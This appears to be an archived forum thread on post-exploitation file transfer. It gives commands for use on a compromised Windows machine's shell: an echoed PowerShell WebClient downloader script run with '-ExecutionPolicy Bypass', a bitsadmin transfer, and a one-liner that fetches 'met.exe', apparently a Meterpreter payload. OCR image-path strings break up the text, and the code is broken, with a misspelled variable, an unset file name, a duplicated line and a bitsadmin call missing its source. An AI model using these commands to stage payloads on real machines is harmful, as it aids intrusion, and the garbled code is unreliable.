View Full Version : Post Exploitation - wget using windows powershell and bitsadmin on target machine

06-29-2016, 11:07 AM
1) You got access on the windows system which support the Powershell and BitsadminPlease note that bitsadmin is no logger supported on the windows, instead of bitsadmin we can use the powershell.

Execute the following command on the target machine's limited shell

echo $storageDir = $pwd > wget.ps1
echo $webclient = New-Object System.Net.WebClient >>wget.ps1
echo $url = "" >>wget.ps1
echo $webliclient.DownloadFile($url, $file) >>wget.ps1
echo $storageDir = $pwd > wget.ps1

Now, our wget.ps1 is ready for action i.e. now it should help attacker to transfer the exploit on the target windows machine.you can cross verify the wget.ps1 using
TYPE command.

Now lets download file the using below given power-shell command.

powershell.exe -ExecutionPolicy Bypass -NoLogo -NonInteractive -NoProfile -File wget.ps1

In some other cases some of the lower version of the windows doesn't support powershell. In this case you can use the bitsadmin utility to download the file in the target machine's directory.

bitsadmin /transfer myDownloadJob c:\Users\g4h\Desktop1.exe

06-29-2016, 11:28 AM
There is another oneliner file downloader in Powershell :

$storageDir = $pwd $webclient = New-Object System.Net.WebClient$url = "" $file = "met.exe"$webclient.DownloadFile($url,$file)